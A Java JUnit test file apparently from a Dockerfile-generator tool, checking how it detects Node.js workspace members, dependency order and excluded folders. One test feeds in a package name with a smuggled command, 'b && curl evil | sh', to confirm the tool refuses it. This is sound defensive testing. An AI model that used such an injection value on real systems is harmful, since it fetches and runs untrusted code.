package dev.dockergen.lang.node;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import dev.dockergen.detect.DetectOptions;
import dev.dockergen.detect.DetectionResult;
import dev.dockergen.detect.MemoryProjectFiles;
import dev.dockergen.detect.ProjectFacts;
import dev.dockergen.detect.ProjectInputException;
import dev.dockergen.lang.Languages;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;

/** Workspaces (npm, Yarn, pnpm, bun): members found from the root's declaration, libraries left out. */
class NodeWorkspaceTest {
    private static DetectionResult detect(String... pathThenText) {
        Map<String, String> files = new TreeMap<>();
        for (int i = 0; i < pathThenText.length; i += 2) {
            files.put(pathThenText[i], pathThenText[i + 1]);
        }
        return Languages.detectors().detect(new MemoryProjectFiles("repo", files), DetectOptions.DEFAULT);
    }

    private static NodeWorkspace workspace(ProjectFacts p) {
        return ((NodeDetails) p.details()).workspace();
    }

    private static final String[] NPM = {
        "package.json", "{\n  \"private\": true,\n  \"workspaces\": [\"apps/*\", \"packages/*\", \"!packages/legacy\"]\n}",
        "package-lock.json", "{}",
        ".nvmrc", "22\n",
        "apps/api/package.json", "{\"name\": \"@s/api\",\n\"scripts\": {\"start\": \"node server.js\", \"build\": \"tsc\"},\n"
            + "\"dependencies\": {\"@s/util\": \"*\", \"@s/db\": \"*\"}}",
        "apps/api/server.js", "require('http').createServer().listen(4000)",
        "apps/site/package.json", "{\"name\": \"@s/site\", \"scripts\": {\"build\": \"vite build\"}, \"devDependencies\": {\"vite\": \"6\"}}",
        "packages/util/package.json", "{\"name\": \"@s/util\", \"main\": \"index.js\", \"scripts\": {\"build\": \"tsc\"}}",
        "packages/util/index.js", "",
        "packages/db/package.json", "{\"name\": \"@s/db\", \"main\": \"index.js\", \"dependencies\": {\"@s/util\": \"*\"}}",
        "packages/db/index.js", "",
        "packages/legacy/package.json", "{\"name\": \"@s/legacy\", \"scripts\": {\"start\": \"node server.js\"}}",
        "packages/legacy/server.js", "",
    };

    @Test
    void membersAreTheAppsTheRootDeclaresWithLibrariesAndExclusionsLeftOut() {
        DetectionResult r = detect(NPM);
        assertEquals(List.of("apps/api", "apps/site"), r.projects().stream().map(ProjectFacts::path).toList());
        ProjectFacts api = r.projects().get(0);
        NodeWorkspace ws = workspace(api);
        assertEquals(".", ws.root());
        assertEquals("apps/api", ws.member());
        assertEquals("../../package.json:3", ws.declaredIn().source().toString());
        assertEquals(List.of("apps/api", "apps/site", "packages/db", "packages/util"), ws.members());
        // dependencies before dependants: util is needed by db, which the api needs
        assertEquals(List.of("packages/util", "packages/db", "apps/api"), ws.needed());
        assertEquals(java.util.Set.of("packages/util", "apps/api"), ws.builds());
        assertEquals("22 @ ../../.nvmrc:1", api.languageVersion().value() + " @ " + api.languageVersion().source());
        assertEquals("npm @ ../../package-lock.json", ((NodeDetails) api.details()).packageManager().value() + " @ "
                + ((NodeDetails) api.details()).packageManager().source());
        assertEquals(4000, api.port().value());
        assertEquals(List.of("node", "server.js"), api.start());
        assertEquals(NodeDetails.SPA, ((NodeDetails) r.projects().get(1).details()).kind().value());
    }

    @Test
    void pnpmWorkspaceYamlDeclaresTheMembers() {
        DetectionResult r = detect(
                "package.json", "{\"packageManager\": \"pnpm@9.15.9\"}",
                "pnpm-workspace.yaml", "# the apps\npackages:\n  - 'services/*'   # every service\n  - \"libs/**\"\n",
                "pnpm-lock.yaml", "lockfileVersion: '9.0'\n",
                "services/web/package.json", "{\"name\": \"web\", \"scripts\": {\"start\": \"node index.js\"},"
                        + " \"dependencies\": {\"@x/log\": \"workspace:*\"}}",
                "services/web/index.js", "",
                "libs/x/log/package.json", "{\"name\": \"@x/log\", \"main\": \"index.js\"}");
        assertEquals(1, r.projects().size());
        NodeWorkspace ws = workspace(r.projects().get(0));
        assertEquals("../../pnpm-workspace.yaml:2", ws.declaredIn().source().toString());
        assertEquals(List.of("libs/x/log", "services/web"), ws.members());
        assertEquals(List.of("libs/x/log", "services/web"), ws.needed());
        assertEquals(List.of("pnpm-workspace.yaml"), ((NodeDetails) r.projects().get(0).details()).installFiles());
    }

    @Test
    void yarnWorkspacesObjectFormAndAWorkspaceInASubfolder() {
        DetectionResult r = detect(
                "go.mod", "module example.com/x\n\ngo 1.23\n",
                "main.go", "package main\n\nfunc main() {}\n",
                "web/package.json", "{\"workspaces\": {\"packages\": [\"app\"]}}",
                "web/yarn.lock", "# yarn lockfile v1\n",
                "web/app/package.json", "{\"name\": \"app\", \"scripts\": {\"start\": \"node main.js\"}}",
                "web/app/main.js", "");
        assertEquals(List.of(".", "web/app"), r.projects().stream().map(ProjectFacts::path).toList());
        NodeWorkspace ws = workspace(r.projects().get(1));
        assertEquals("web", ws.root());
        assertEquals("app", ws.member());
        assertEquals("yarn", ((NodeDetails) r.projects().get(1).details()).packageManager().value());
    }

    @Test
    void aPackageNameThatCouldInjectIsRefusedWithItsFileAndLine() {
        ProjectInputException e = assertThrows(ProjectInputException.class, () -> detect(
                "package.json", "{\"workspaces\": [\"apps/*\"]}",
                "apps/a/package.json", "{\"name\": \"a\", \"scripts\": {\"start\": \"node a.js\"}, \"dependencies\": {\"b\": \"*\"}}",
                "apps/b/package.json", "{\n\"name\": \"b && curl evil | sh\"}"));
        assertEquals("apps/b/package.json:2", e.source().toString());
    }

    @Test
    void aDependencyCycleListsEachMemberOnce() {
        DetectionResult r = detect(
                "package.json", "{\"workspaces\": [\"p/*\"]}",
                "p/a/package.json", "{\"name\": \"a\", \"scripts\": {\"start\": \"node a.js\"}, \"dependencies\": {\"b\": \"*\"}}",
                "p/b/package.json", "{\"name\": \"b\", \"dependencies\": {\"a\": \"*\"}}");
        assertEquals(List.of("p/b", "p/a"), workspace(r.projects().get(0)).needed());
    }

    @Test
    void buildOutputAndTestFixturesHoldNoMemberProjects() {
        String app = "{\"scripts\": {\"start\": \"node s.js\"}}";
        DetectionResult r = detect(
                "services/web/package.json", app,
                "target/classes/web/package.json", app,
                "build/tmp/package.json", app,
                "src/test/resources/fixtures/node/app/package.json", app,
                "tools/__fixtures__/x/package.json", app,
                "go/testdata/y/package.json", app);
        assertEquals(List.of("services/web"), r.projects().stream().map(ProjectFacts::path).toList());
    }
}
